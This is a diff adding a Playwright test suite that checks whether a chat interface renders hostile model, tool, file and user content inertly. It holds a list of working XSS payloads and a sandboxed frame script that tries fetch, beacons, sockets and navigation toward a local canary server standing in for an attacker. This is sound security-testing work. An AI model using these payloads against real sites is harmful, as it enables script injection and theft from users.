@@ -1,0 +1,230 @@
+"""Whatever others bring is shown as text: nothing of it runs, nothing is asked of another origin."""
+
+import json
+import re
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from threading import Thread
+
+import pytest
+from page_stage import Server, Visit, answer, call, play, serving, thought, titled
+from playwright.sync_api import Browser, FilePayload, expect
+
+
+class Canary:
+    """Another origin, which must never be asked for anything."""
+
+    def __init__(self) -> None:
+        self.asked: list[str] = []
+        asked = self.asked
+
+        class Recorder(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                asked.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            do_POST = do_GET  # noqa: N815
+
+            def log_message(self, format: str, *args: object) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
+        self.address = f"http://127.0.0.1:{self.server.server_port}"
+        Thread(target=self.server.serve_forever, daemon=True).start()
+
+
+def payloads(canary: str) -> list[str]:
+    return [
+        "<script>window.hit=1</script>",
+        f'<script src="{canary}/script.js"></script>',
+        '<img src="/x" onerror="window.hit=1">',
+        f"<img src={canary}/img.png>",
+        f"![pixel]({canary}/pixel.png)",
+        f"![pixel][ref]\n\n[ref]: {canary}/ref.png",
+        "<svg onload=window.hit=1></svg>",
+        "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
+        '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
+        f"<iframe src={canary}/frame></iframe>",
+        f'<object data="{canary}/object"></object><embed src="{canary}/embed">',
+        f'<link rel=stylesheet href="{canary}/style.css"><style>@import "{canary}/import.css";</style>',
+        f'<meta http-equiv=refresh content="0;url={canary}/refresh"><base href="{canary}/">',
+        f'<form action="{canary}/form"><button>send</button></form>',
+        "[link](javascript:window.hit=1)",
+        "[link](JaVaScRiPt:window.hit=1)",
+        "[link](java&#x09;script:window.hit=1)",
+        "[link](data:text/html,<script>parent.hit=1</script>)",
+        "[link](vbscript:window.hit=1)",
+        '[link](https://example.org/" onmouseover="window.hit=1)',
+        '[link](https://example.org "title\\" onmouseover=\\"window.hit=1")',
+        "<javascript:window.hit=1>",
+        "&lt;script&gt;window.hit=1&lt;/script&gt;",
+        '```"><img src=x onerror=window.hit=1>\ncode\n```',
+        "```html\n<script>window.hit=1</script>\n```",
+        "`<img src=x onerror=window.hit=1>`",
+        "| <img src=x onerror=window.hit=1> |\n|---|\n| <script>window.hit=1</script> |",
+        "$\\href{javascript:window.hit=1}{x}$ $\\htmlData{x=y}{z}$ $\\includegraphics{" + canary + "/tex.png}$",
+        '$</annotation><img src=x onerror="window.hit=1">$',
+        "$$\\text{<img src=x onerror=window.hit=1>}$$",
+        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
+        "<math><annotation-xml encoding='text/html'><script>window.hit=1</script></annotation-xml></math>",
+        "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
+        "<template><script>window.hit=1</script></template>",
+        "<details open ontoggle=window.hit=1>x</details>",
+        "<a href='#' id='root' name='body'>clobber</a>",
+        "</textarea></title></style><script>window.hit=1</script>",
+        "[[S:1]] [[S:<img src=x onerror=window.hit=1>]] [\\[1\\]](javascript:window.hit=1)",
+        "<div style=\"background:url('" + canary + "/style.png')\">x</div>",
+        "- [ ] <input autofocus onfocus=window.hit=1>",
+        "\u202e<script>window.hit=1</script>\u0000",
+    ]
+
+
+def hostile(canary: str) -> str:
+    return "\n\n".join(f"{text}\n\nafter{n}" for n, text in enumerate(payloads(canary)))
+
+
+def frame_document(canary: str) -> str:
+    """A document that tries all it can from inside its frame, and says when it is done."""
+    return f"""<!doctype html><body><img src="{canary}/f.png"><link rel=stylesheet href="{canary}/f.css">
+<script src="{canary}/f.js"></script><iframe src="{canary}/f.html"></iframe>
+<form id=f action="{canary}/form" method=post></form><a id=a href="{canary}/top" target=_top>x</a>
+<link rel=prefetch href="{canary}/prefetch"><link rel=preconnect href="{canary}">
+<script>
+const said = [];
+const tries = {{
+  fetch: () => fetch("{canary}/fetch").catch(() => 0),
+  own: () => fetch("/me").catch(() => 0),
+  beacon: () => navigator.sendBeacon("{canary}/beacon"),
+  socket: () => new WebSocket("{canary.replace("http", "ws")}/socket"),
+  events: () => new EventSource("{canary}/events"),
+  cookie: () => {{ if (document.cookie) parent.hit = 1; said.push("cookie"); }},
+  parent: () => {{ parent.document.body.remove(); }},
+  hit: () => {{ parent.hit = 1; top.hit = 1; }},
+  top: () => {{ top.location = "{canary}/top"; }},
+  opener: () => window.open("{canary}/open"),
+  storage: () => localStorage.getItem("x"),
+  form: () => f.submit(),
+  link: () => a.click(),
+  picture: () => {{ new Image().src = "{canary}/image"; }},
+  worker: () => new Worker("{canary}/worker.js"),
+  rtc: () => {{ if (window.RTCPeerConnection) said.push("rtc"); }},
+}};
+for (const [name, attempt] of Object.entries(tries)) try {{ attempt(); }} catch (error) {{ said.push("no " + name); }}
+parent.postMessage("tried everything: " + said.join(", "), "*");
+setTimeout(() => {{ location = "{canary}/navigate"; }}, 100);
+</script>"""
+
+
+@pytest.fixture(scope="module")
+def canary() -> Iterator[Canary]:
+    canary = Canary()
+    yield canary
+    canary.server.shutdown()
+    canary.server.server_close()
+
+
+@pytest.fixture(scope="module")
+def server(tmp_path_factory: pytest.TempPathFactory, canary: Canary) -> Iterator[Server]:
+    text = hostile(canary.address)
+    short = "<img src=x onerror=window.hit=1><script>window.hit=1</script>"
+    plays = (
+        play(
+            "hostile",
+            thought(text) + call("react.plan", text, mode="new", steps=[short, f"![x]({canary.address}/plan.png)"]),
+            call(f"evil.{short}", text, path=short, pattern=text),
+            call("react.write", "", path="files/evil.md", content=text, channel="canvas", kind="display"),
+            answer(text, short),
+            titled(short),
+        ),
+        play(
+            "frame",
+            call(
+                "react.write",
+                path="files/f.html",
+                content=frame_document(canary.address),
+                channel="canvas",
+                kind="display",
+            ),
+            answer("Done."),
+            titled("Frame"),
+        ),
+    )
+    with serving(Path(tmp_path_factory.mktemp("hostile")), *plays) as running:
+        yield running
+
+
+STRANGE = """() => [...document.querySelectorAll("*")].flatMap((element) => [
+    ...[...element.attributes].filter((one) => one.name.startsWith("on")).map((one) => one.name),
+    ...(/^(SCRIPT|IFRAME|OBJECT|EMBED|FORM|STYLE|LINK|META|BASE|IMG)$/.test(element.tagName)
+        && element.closest(".flow, .panel, .list") ? [element.tagName] : []),
+    ...(element.tagName === "A" && element.closest(".flow, .panel")
+        && !/^(https?|mailto):/.test(element.href) ? [element.href] : []),
+])"""
+
+
+def test_nothing_that_a_model_a_tool_a_file_or_a_user_brings_runs_or_reaches_out(
+    browser: Browser, server: Server, canary: Canary
+) -> None:
+    visit = Visit(browser, server, width=1400)
+    page = visit.come_in()
+    name = "<img src=x onerror=window.hit=1>.txt"
+    payload = hostile(canary.address).encode()
+    page.get_by_label("Files", exact=True).set_input_files(
+        [FilePayload(name=name, mimeType="text/plain", buffer=payload.replace(b"\0", b""))]
+    )
+    visit.say("hostile " + hostile(canary.address).replace("\0", ""))
+    expect(page.get_by_role("button", name="Fork here")).to_be_visible()
+    expect(page.get_by_role("article", name="Answer", exact=True)).to_contain_text(f"after{len(payloads('')) - 1}")
+    for button in page.locator(".call-head, .fold").all():
+        button.click()
+    expect(page.locator(".call-body").first).to_be_visible()
+    page.get_by_role("button", name=re.compile("^evil.md")).click()
+    expect(page.get_by_role("complementary", name="Files")).to_contain_text("after1")
+    for panel in ("Sources", "Inspector"):
+        page.get_by_role("button", name=panel, exact=True).click()
+        expect(page.get_by_role("complementary", name=panel)).to_be_visible()
+    page.get_by_role("listbox", name="Blocks").focus()
+    for _ in range(30):
+        page.keyboard.press("ArrowDown")
+    page.get_by_role("tab", name="Prompt").click()
+    expect(page.get_by_role("complementary", name="Inspector")).to_contain_text("ANNOUNCE")
+    page.get_by_role("searchbox", name="Search conversations").fill("hostile")
+    expect(page.get_by_role("list", name="Found")).to_contain_text("<img src=x")
+    assert page.evaluate(STRANGE) == []
+    assert page.evaluate("window.hit") is None
+    assert canary.asked == []
+    visit.leave()
+
+
+def test_a_document_in_the_canvas_reaches_nothing(browser: Browser, server: Server, canary: Canary) -> None:
+    visit = Visit(browser, server, width=1400)
+    page = visit.come_in()
+    page.evaluate("addEventListener('message', (event) => { document.body.dataset.said = event.data; })")
+    visit.say("Show me a frame.")
+    page.get_by_role("button", name=re.compile("^f.html")).click()
+    expect(page.frame_locator("iframe").locator("#a")).to_be_attached()
+    assert page.locator("body").get_attribute("data-said") is None, "no script runs before somebody says so"
+    page.get_by_role("button", name="Run scripts").click()
+    expect(page.locator("body")).to_have_attribute("data-said", re.compile("tried everything"))
+    said = page.locator("body").get_attribute("data-said") or ""
+    assert "no parent" in said
+    assert "no storage" in said
+    assert "rtc" not in said
+    expect(page.get_by_text("Done.")).to_be_visible()
+    # The last that it tries is to go elsewhere, and what is there instead says that it was not let.
+    for _ in range(600):
+        if any(frame.url.startswith("chrome-error:") for frame in page.frames):
+            break
+        page.wait_for_timeout(100)
+    else:
+        pytest.fail(f"the frame went somewhere: {[frame.url for frame in page.frames]}")
+    assert page.url.startswith(visit.server.address)
+    assert page.evaluate("window.hit") is None
+    assert canary.asked == []
+    assert len(visit.context.pages) == 1
+    # What the document tried is on the console as refusals, and no more than that.
+    tried = json.dumps([one for one in visit.wrong if not one.startswith(("console:", "request:"))])
+    assert tried == "[]"
+    visit.context.close()
